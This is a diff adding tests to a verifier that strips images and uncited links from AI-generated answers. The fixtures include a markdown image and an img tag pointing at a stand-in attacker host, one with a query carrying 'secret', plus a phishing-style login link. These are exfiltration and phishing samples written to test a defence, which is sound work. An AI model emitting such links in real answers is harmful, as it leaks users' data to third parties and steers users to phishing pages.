@@ -369,3 +369,46 @@ def test_any_answer_verifies_without_error(answer: str) -> None:
     assert set(v.cited) <= set(ZH)
     assert not set(v.invalid_citations) & set(ZH)
     assert all(n in set(ZH) for _, _, numbers in parse_citations(v.answer) for n in numbers)
+
+
+# --- links and images (a planted link must not reach the user) ------------------------------------------
+
+LINKED = {1: "Claims are filed at https://claims.example.com/form within 30 days.", 2: "The waiting period is 90 days."}
+
+
+def test_images_are_always_removed_even_when_their_url_is_in_a_cited_passage() -> None:
+    answer = (
+        "File within 30 days [1]. ![x](http://evil.example/leak?q=secret) "
+        "![form](https://claims.example.com/form) <img src=\"http://evil.example/p.png\">"
+    )
+    v = verify_answer(answer, LINKED)
+    assert "![" not in v.answer and "<img" not in v.answer and "evil.example" not in v.answer
+    assert "claims.example.com" not in v.answer
+    assert v.removed_links == [
+        "![x](http://evil.example/leak?q=secret)",
+        "![form](https://claims.example.com/form)",
+        '<img src="http://evil.example/p.png">',
+    ]
+    assert sum(w.startswith("image removed") for w in v.warnings) == 3
+
+
+def test_a_url_stays_only_when_a_cited_passage_holds_it() -> None:
+    answer = (
+        "File at [the form](https://claims.example.com/form) within 30 days [1]. "
+        "Log in at [portal](http://evil.example/phish) or <http://evil.example/a> or www.evil.example/b. "
+        "The waiting period is 90 days, see https://claims.example.com/form [2]."
+    )
+    v = verify_answer(answer, LINKED)
+    # Cited in [1]: kept as a link. The same URL in a sentence citing only [2] is still in a cited passage.
+    assert "[the form](https://claims.example.com/form)" in v.answer
+    assert "see https://claims.example.com/form [2]" in v.answer
+    assert "evil.example" not in v.answer and "Log in at portal or" in v.answer
+    assert v.removed_links == ["[portal](http://evil.example/phish)", "<http://evil.example/a>", "www.evil.example/b"]
+    assert [w for w in v.warnings if "removed: not in a cited source" in w] == [
+        f"link to {link} removed: not in a cited source" for link in v.removed_links
+    ]
+
+
+def test_a_url_of_an_uncited_passage_is_removed() -> None:
+    v = verify_answer("The waiting period is 90 days [2]. Forms: https://claims.example.com/form.", LINKED)
+    assert v.removed_links == ["https://claims.example.com/form"] and v.answer.endswith("Forms: .")
